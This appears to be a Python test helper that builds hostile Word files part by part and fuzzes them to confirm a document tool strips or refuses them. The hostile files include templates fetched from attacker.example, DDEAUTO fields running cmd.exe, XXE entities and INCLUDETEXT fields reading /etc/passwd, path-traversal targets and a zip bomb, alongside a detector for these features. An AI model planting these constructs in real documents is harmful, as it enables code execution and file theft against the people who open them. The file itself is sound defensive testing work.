"""Word files with something hostile inside, made part by part, and what a safe output is.

Shared by the reference-document tests (tests/writers/docx), the attach tests, the fuzz test
(tests/robustness/test_fuzz_word_files.py) and benchmarks/fuzz_word_files.py. Each attack is
what a document picked up on a shared drive can hold: a template fetched from a web server,
a picture linked from a local file, fields that fetch files or start programs, macros.
"""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
from hypothesis import strategies as st
from lxml import etree

from tests.robustness.fuzzing import run_cli
from tests.robustness.specs import MINIMAL, Project

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"
NS = f'xmlns:w="{W}" xmlns:r="{R}"'

FETCHING = ("INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT", "DDE", "DDEAUTO", "LINK",
            "DATABASE", "RD", "EMBED")


class WordZip:
    """The parts of a Word file, by name, to be edited as bytes and written back out."""

    def __init__(self, path: Path) -> None:
        with zipfile.ZipFile(path) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def save(self, path: Path) -> Path:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return path

    def related(self, source: str, kind: str) -> str:
        """The part name of the first relationship of type ``kind`` from part ``source``."""
        root = etree.fromstring(self.parts[rels_of(source)])
        for rel in root:
            if rel.get("Type") == RT + kind:
                folder = source.rsplit("/", 1)[0] + "/" if "/" in source else ""
                return (folder + rel.get("Target")).lstrip("/")
        raise KeyError(kind)

    def header(self) -> str:
        return self.related("word/document.xml", "header")

    def relate(self, source: str, kind: str, target: str, external: bool = False) -> str:
        """Add a relationship from part ``source``; return its id."""
        name = rels_of(source)
        if name in self.parts:
            root = etree.fromstring(self.parts[name])
        else:
            root = etree.Element(f"{{{PKG}}}Relationships", nsmap={None: PKG})
        rel_id = f"rIdEvil{len(root) + 1}"
        rel = etree.SubElement(root, f"{{{PKG}}}Relationship", Id=rel_id, Type=kind,
                               Target=target)
        if external:
            rel.set("TargetMode", "External")
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
        return rel_id

    def append(self, part: str, fragment: str) -> None:
        """Append the XML ``fragment`` (w: and r: prefixes declared) to the root of ``part``,
        before a body's final w:sectPr."""
        root = etree.fromstring(self.parts[part])
        holder = root.find(f"{{{W}}}body")
        holder = root if holder is None else holder
        element = etree.fromstring(f"<wrap {NS} {_MORE_NS}>{fragment}</wrap>")
        last = holder[-1] if len(holder) else None
        for child in list(element):
            if last is not None and last.tag == f"{{{W}}}sectPr":
                last.addprevious(child)
            else:
                holder.append(child)
        self.parts[part] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")

    def override(self, part: str, content_type: str) -> None:
        root = etree.fromstring(self.parts["[Content_Types].xml"])
        etree.SubElement(root, f"{{{CT}}}Override", PartName=f"/{part}", ContentType=content_type)
        self.parts["[Content_Types].xml"] = etree.tostring(root, xml_declaration=True,
                                                          encoding="UTF-8")


_MORE_NS = ('xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
            'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"')


def rels_of(part: str) -> str:
    folder, _, base = part.rpartition("/")
    return f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"


# ----------------------------------------------------------------------------- the attacks


def attached_template(word: WordZip) -> None:
    settings = word.related("word/document.xml", "settings")
    rel = word.relate(settings, RT + "attachedTemplate", "http://attacker.example/x.dotm",
                      external=True)
    root = etree.fromstring(word.parts[settings])
    element = etree.SubElement(root, f"{{{W}}}attachedTemplate")
    element.set(f"{{{R}}}id", rel)
    root.insert(0, element)
    word.parts[settings] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def external_picture(word: WordZip) -> None:
    header = word.header()
    rel = word.relate(header, RT + "image", "file:///etc/passwd", external=True)
    word.append(header, f"""<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/>
      <wp:docPr id="901" name="linked"/><a:graphic><a:graphicData
      uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>
      <pic:cNvPr id="901" name="linked"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>
      <a:blip r:link="{rel}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>
      <a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>
      <a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>
      </wp:inline></w:drawing></w:r></w:p>""")


def fetching_fields(word: WordZip) -> None:
    """INCLUDEPICTURE as a simple field, DDEAUTO as a complex one with its instruction split
    over runs, and INCLUDETEXT nested inside an IF, in a header."""
    word.append(word.header(), """
      <w:p><w:fldSimple w:instr=' INCLUDEPICTURE "http://attacker.example/p.png" \\d '>
        <w:r><w:t>picture result</w:t></w:r></w:fldSimple></w:p>
      <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>
        <w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>
        <w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32</w:instrText></w:r>
        <w:r><w:instrText xml:space="preserve">\\\\cmd.exe</w:instrText></w:r>
        <w:r><w:instrText xml:space="preserve"> "/c calc" </w:instrText></w:r>
        <w:r><w:fldChar w:fldCharType="separate"/></w:r>
        <w:r><w:t>dde result</w:t></w:r>
        <w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
      <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>
        <w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>
        <w:r><w:fldChar w:fldCharType="begin"/></w:r>
        <w:r><w:instrText xml:space="preserve"> INCLUDETEXT "file:///etc/passwd" </w:instrText>
        </w:r>
        <w:r><w:fldChar w:fldCharType="end"/></w:r>
        <w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>
        <w:r><w:fldChar w:fldCharType="separate"/></w:r>
        <w:r><w:t>if result</w:t></w:r>
        <w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""")


def external_ole_object(word: WordZip) -> None:
    header = word.header()
    rel = word.relate(header, RT + "oleObject", "file:///c:/evil.xls", external=True)
    word.append(header, f"""<w:p><w:r><w:object><v:shape id="ole1" style="width:10pt;height:10pt"/>
      <o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" DrawAspect="Content"
      ObjectID="_1" r:id="{rel}"><o:LinkType>EnhancedMetaFile</o:LinkType>
      </o:OLEObject></w:object></w:r></w:p>""")


def external_frame(word: WordZip) -> None:
    word.relate("word/document.xml", RT + "frame", "http://attacker.example/frame.html",
                external=True)


def macro_project(word: WordZip) -> None:
    """A vbaProject.bin under an innocent content type, related as Word relates macros, with
    its key bindings."""
    word.parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    word.override("word/vbaProject.bin", "application/xml")
    word.relate("word/document.xml", MS_RT + "vbaProject", "vbaProject.bin")
    word.parts["word/customizations.xml"] = (
        b'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')
    word.relate("word/document.xml", MS_RT + "keyMapCustomizations", "customizations.xml")


def zip_bomb(word: WordZip, megabytes: int = 50) -> None:
    """A picture of ``megabytes`` MB of zeros: about 50 KB in the zip."""
    word.parts["word/media/zeros.png"] = bytes(megabytes * 1024 * 1024)
    word.relate(word.header(), RT + "image", "media/zeros.png")


def entity_in_header(word: WordZip) -> None:
    header = word.header()
    word.parts[header] = word.parts[header].replace(b"</w:hdr>", b"<w:p><w:r><w:t>&xxe;</w:t>"
                                                    b"</w:r></w:p></w:hdr>")


def entity_declared(word: WordZip) -> None:
    header = word.header()
    text = word.parts[header].decode("utf-8")
    text = re.sub(r"^<\?xml[^>]*\?>", "", text)
    word.parts[header] = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:hdr [<!ENTITY xxe SYSTEM '
        '"file:///etc/passwd">]>' + text.replace("</w:hdr>", "<w:p><w:r><w:t>&xxe;</w:t></w:r>"
                                                "</w:p></w:hdr>")).encode("utf-8")


def libreoffice_core_properties(word: WordZip) -> None:
    """The package relationship to docProps/core.xml as LibreOffice writes it."""
    word.parts["_rels/.rels"] = word.parts["_rels/.rels"].replace(
        b"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        b"http://schemas.openxmlformats.org/officedocument/2006/relationships/metadata/"
        b"core-properties")


# Attacks the output must come out of clean (the build goes on, with a warning).
REMOVABLE: dict[str, Callable[[WordZip], None]] = {
    "attached-template": attached_template,
    "external-picture": external_picture,
    "fetching-fields": fetching_fields,
    "external-ole-object": external_ole_object,
    "external-frame": external_frame,
    "macro-project": macro_project,
}
# Attacks that are refused: no output at all.
REFUSED: dict[str, Callable[[WordZip], None]] = {
    "zip-bomb": zip_bomb,
    "undefined-entity": entity_in_header,
    "declared-entity": entity_declared,
}


def craft(base: Path, out: Path, *attacks: Callable[[WordZip], None]) -> Path:
    """``base`` with ``attacks`` applied, written to ``out``."""
    word = WordZip(base)
    for attack in attacks:
        attack(word)
    return word.save(out)


# ----------------------------------------------------------------------------- what is safe


def unsafe_contents(path: Path) -> list[str]:
    """What in the Word file at ``path`` reaches out or runs; [] when nothing does."""
    found = []
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, data in parts.items():
        if re.search(r"vbaProject|vbaData|activeX|customizations", name, re.IGNORECASE):
            found.append(f"macro part {name}")
        if not (name.endswith(".xml") or name.endswith(".rels")):
            continue
        root = etree.fromstring(data)
        for rel in root.iter(f"{{{PKG}}}Relationship"):
            kind, target = rel.get("Type", ""), rel.get("Target", "")
            if re.search(r"vbaProject|vbaData|keyMap|control|attachedTemplate|oleObject|frame",
                         kind):
                found.append(f"{name}: relationship {kind}")
            if rel.get("TargetMode") == "External" and not (
                    kind == RT + "hyperlink" and re.match(r"(?i)(https?|mailto):", target)):
                found.append(f"{name}: external {kind} to {target}")
        instructions = [e.get(f"{{{W}}}instr", "") for e in root.iter(f"{{{W}}}fldSimple")]
        instructions.append("".join(e.text or "" for e in root.iter(f"{{{W}}}instrText")))
        for instruction in instructions:
            for word in re.findall(r"[A-Za-z]+", instruction):
                if word.upper() in FETCHING:
                    found.append(f"{name}: field {word}")
        for tag in ("attachedTemplate", "control", "altChunk", "mailMerge"):
            if root.find(f".//{{{W}}}{tag}") is not None:
                found.append(f"{name}: w:{tag}")
    content_types = parts.get("[Content_Types].xml", b"")
    if re.search(rb"macroEnabled|vbaProject", content_types):
        found.append("a macro content type")
    return found


def opens_in_python_docx(path: Path) -> None:
    """Open ``path`` with python-docx and touch what a reader touches (raises if it cannot)."""
    word = docx.Document(str(path))
    for section in word.sections:
        _ = [p.text for p in section.header.paragraphs] + [p.text for p in word.paragraphs]


# ----------------------------------------------------------------------------- fuzzing

# Relationship types to swap in: the ones Word files hold, and the ones that must not pass.
RELATIONSHIP_TYPES = [RT + t for t in (
    "officeDocument", "styles", "numbering", "settings", "theme", "fontTable", "header",
    "footer", "footnotes", "endnotes", "image", "hyperlink", "font", "webSettings", "comments",
    "customXml", "oleObject", "package", "control", "attachedTemplate", "frame", "subDocument",
    "aFChunk")] + [MS_RT + t for t in ("vbaProject", "wordVbaData", "keyMapCustomizations")] + [
    "http://schemas.openxmlformats.org/officedocument/2006/relationships/metadata/"
    "core-properties", "", "urn:x"]
ODD_TARGETS = ["", "/", ".", "..", "../../../../etc/passwd", "/word/document.xml",
               "document.xml", "styles.xml", "_rels/document.xml.rels", "[Content_Types].xml",
               "media/image1.png", "file:///etc/passwd", "http://attacker.example/x",
               "https://example.org/", "mailto:a@example.org", "javascript:alert(1)",
               "\\\\server\\share\\x.dotm", "%2e%2e/x", "header1.xml#frag", "C:/x", "\u00e9.xml"]
FRAGMENTS = [
    "<w:p/>", "<w:r><w:t>x</w:t></w:r>", '<w:fldSimple w:instr="DDEAUTO x"/>',
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>',
    '<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    '<w:p><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>',
    '<w:p><w:r><w:instrText>INCLUDEPICTURE "x"</w:instrText></w:r></w:p>',
    '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>l</w:t></w:r></w:hyperlink></w:p>',
    '<w:headerReference w:type="default" r:id="rId99"/>', '<w:sectPr/>', "<w:body/>",
    '<w:tbl><w:tr><w:tc/></w:tr></w:tbl>', '<w:style w:type="paragraph" w:styleId="Title"/>',
    '<w:p><w:pPr><w:pStyle w:val="nope"/><w:numPr><w:numId w:val="999"/></w:numPr></w:pPr></w:p>',
    "<w:p><w:r><w:t>{{ title }}</w:t></w:r></w:p>", "<w:p><w:r><w:t>{{ body }}</w:t></w:r></w:p>",
    '<w:p><w:r><w:object><o:OLEObject r:id="rId2"/></w:object></w:r></w:p>',
    '<w:attachedTemplate r:id="rId1"/>', "<w:control/>", "<w:altChunk/>",
]


@st.composite
def mutated_word_files(draw: st.DrawFn, base: Path) -> bytes:
    """The Word file ``base`` with one to four random edits to its parts, relationships and
    content types, sometimes with a known attack on top; as zip bytes."""
    word = WordZip(base)
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        names = sorted(word.parts)
        name = draw(st.sampled_from(names))
        action = draw(st.sampled_from(["delete", "garble", "truncate", "insert", "rel-type",
                                       "rel-target", "rel-mode", "content-type", "attack",
                                       "rename"]))
        data = word.parts[name]
        if action == "delete":
            del word.parts[name]
        elif action == "garble":
            word.parts[name] = draw(st.one_of(st.binary(max_size=64), st.text(max_size=64).map(
                lambda t: t.encode("utf-8", "surrogatepass"))))
        elif action == "truncate":
            word.parts[name] = data[:draw(st.integers(min_value=0, max_value=len(data)))]
        elif action == "rename":
            new_name = "word/" + draw(st.sampled_from(ODD_TARGETS[6:11]))
            word.parts[new_name] = word.parts.pop(name)
        elif action == "attack":
            attacks = {**REMOVABLE, **REFUSED, "zip-bomb": lambda w: zip_bomb(w, 2)}
            try:
                attacks[draw(st.sampled_from(sorted(attacks)))](word)
            except (KeyError, etree.XMLSyntaxError, ValueError, TypeError, AttributeError):
                pass  # an earlier edit took away what the attack builds on
        else:
            try:
                root = etree.fromstring(data)
            except etree.XMLSyntaxError:
                continue
            if action == "insert":
                fragment = draw(st.sampled_from(FRAGMENTS))
                element = etree.fromstring(f"<wrap {NS} {_MORE_NS}>{fragment}</wrap>")[0]
                targets = list(root.iter(etree.Element))
                parent = targets[draw(st.integers(min_value=0, max_value=len(targets) - 1))]
                parent.insert(draw(st.integers(min_value=0, max_value=len(parent))), element)
            else:
                rels = list(root.iter(f"{{{PKG}}}Relationship", f"{{{CT}}}Override"))
                if not rels:
                    continue
                rel = draw(st.sampled_from(rels))
                if action == "rel-type":
                    rel.set("Type", draw(st.sampled_from(RELATIONSHIP_TYPES)))
                elif action == "rel-target":
                    rel.set("Target", draw(st.sampled_from(ODD_TARGETS)))
                elif action == "rel-mode":
                    rel.set("TargetMode", draw(st.sampled_from(["External", "Internal", "x"])))
                else:
                    rel.set("ContentType", draw(st.sampled_from([
                        "application/xml", "image/png", "",
                        "application/vnd.ms-word.document.macroEnabled.main+xml",
                        "application/vnd.ms-office.vbaProject",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml."
                        "template.main+xml"])))
            word.parts[name] = etree.tostring(root)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in word.parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def assert_safe_or_refused(code: int, err: str, output: Path | None) -> None:
    """The property every fuzzed Word file must keep: exit 0 with an output that is safe
    and opens, or exit 1 with a message and no output."""
    assert code in (0, 1), (code, err)
    assert "Traceback" not in err, err
    if code == 1:
        assert err.strip(), "refused without a message"
        assert output is None or not output.exists()
    else:
        assert output is not None and output.is_file(), err
        found = unsafe_contents(output)
        assert found == [], found
        opens_in_python_docx(output)


def check_reference(project: Project, reference: bytes) -> int:
    """Build the minimal spec with ``reference`` as the template's reference.docx; assert
    assert_safe_or_refused; return the exit status."""
    folder = project.folder("reference")
    try:
        template = folder / "template"
        template.mkdir()
        (template / "template.yaml").write_text("extends: default\n", encoding="utf-8")
        (template / "reference.docx").write_bytes(reference)
        spec = folder / "brief.yaml"
        spec.write_text(MINIMAL, encoding="utf-8")
        out = folder / "out"
        code, err = run_cli(["build", str(spec), "-o", str(out), "--format", "docx",
                             "--template", str(template)])
        made = sorted(out.glob("*.docx")) if out.exists() else []
        assert_safe_or_refused(code, err, made[0] if made else None)
        if code == 1:
            assert not out.exists() or not any(out.iterdir()), sorted(out.iterdir())
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return code


def check_report(project: Project, brief: Path, report: bytes) -> int:
    """Attach ``brief`` to ``report`` (DOCX bytes) with the CLI; assert
    assert_safe_or_refused; return the exit status."""
    folder = project.folder("report")
    try:
        path = folder / "report.docx"
        path.write_bytes(report)
        out = folder / "out.docx"
        code, err = run_cli(["attach", str(brief), "--into", str(path), "-o", str(out)])
        assert_safe_or_refused(code, err, out)
        assert sorted(p.name for p in folder.iterdir()) == sorted(
            ["report.docx", *(["out.docx"] if code == 0 else [])])
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return code
